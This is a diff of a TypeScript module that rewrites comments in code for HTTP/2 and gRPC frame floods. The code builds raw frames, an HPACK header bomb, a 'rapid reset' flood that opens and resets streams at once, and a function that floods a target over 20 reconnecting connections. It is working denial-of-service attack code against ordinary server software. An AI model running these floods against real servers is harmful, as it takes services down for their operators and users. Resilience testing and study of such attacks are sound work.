@@ -2,10 +2,10 @@ import { repeatInParallel, type Attack } from './attack.ts';
 import { addressOf, isOpened, open, write } from './connection.ts';
 import { methods } from './grpc.ts';
 
-/** What a client of HTTP/2 begins with. */
+/** The HTTP/2 connection preface. */
 export const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
 
-/** Types of frames (RFC 9113, section 6). */
+/** Frame types (RFC 9113, section 6). */
 export const types = {
   data: 0,
   headers: 1,
@@ -29,7 +29,7 @@ export function frame(type: number, flag: number, stream: number, payload: Buffe
   return Buffer.concat([head, payload]);
 }
 
-/** A header that is not put into the table of HPACK (RFC 7541, section 6.2.2); short. */
+/** A short literal header without indexing (RFC 7541, section 6.2.2). */
 function literal(name: string, value: string): Buffer {
   const part = (text: string) => Buffer.concat([Buffer.from([text.length]), Buffer.from(text)]);
   return Buffer.concat([Buffer.from([0]), part(name), part(value)]);
@@ -49,14 +49,14 @@ export function callTo(path: string, contentType = 'application/grpc'): Buffer {
 const call = callTo(methods.list);
 const refused = { otherType: callTo(methods.list, 'text/plain'), unknownMethod: callTo('/no.Service/Method') };
 
-/** Puts a header of 4,000 bytes into the table, and then names it again and again: an index of one byte each. */
+/** Indexes a header of 4,000 bytes and then repeats it at one byte each. */
 const headerBomb = Buffer.concat([
   Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), // x: 127 + 3873 bytes
   Buffer.alloc(4_000, 'y'),
   Buffer.alloc(12_000, 0xbe),
 ]);
 
-/** What is sent on a connection again and again, by the number of the turn. */
+/** Bytes that are sent repeatedly on a connection, by the number of the repetition. */
 type Flood = (turn: number) => Buffer;
 
 const repeated = (times: number, one: Buffer): Flood => {
@@ -64,20 +64,20 @@ const repeated = (times: number, one: Buffer): Flood => {
   return () => many;
 };
 
-/** Frames of many streams, each with the next odd number. */
+/** Frames of many streams with consecutive odd ids. */
 const streams =
   (count: number, of: (stream: number) => Buffer): Flood =>
   (turn) =>
     Buffer.concat(Array.from({ length: count }, (_, at) => of(2 * (turn * count + at) + 1)));
 
-/** A number of four bytes. */
+/** A 32-bit big-endian number. */
 export const uint32 = (value: number) => {
   const bytes = Buffer.alloc(4);
   bytes.writeUInt32BE(value);
   return bytes;
 };
 
-/** Calls that are reset at once. */
+/** Calls that are reset immediately (rapid reset). */
 const resets = (count: number, headers: Buffer): Flood =>
   streams(count, (stream) =>
     Buffer.concat([frame(types.headers, flags.endHeaders, stream, headers), frame(types.reset, 0, stream, uint32(8))]),
@@ -123,7 +123,7 @@ const floods = {
 /** Kinds of floods of HTTP/2 frames. */
 export type FloodName = keyof typeof floods;
 
-/** Floods of frames over 20 connections to gRPC; those that are closed are opened again. */
+/** Floods of frames over 20 gRPC connections; closed ones are reopened. */
 export function frameFlood(...names: readonly FloodName[]): (attack: Attack) => Promise<void> {
   return async (attack) => {
     const { target, counter, signal } = attack;
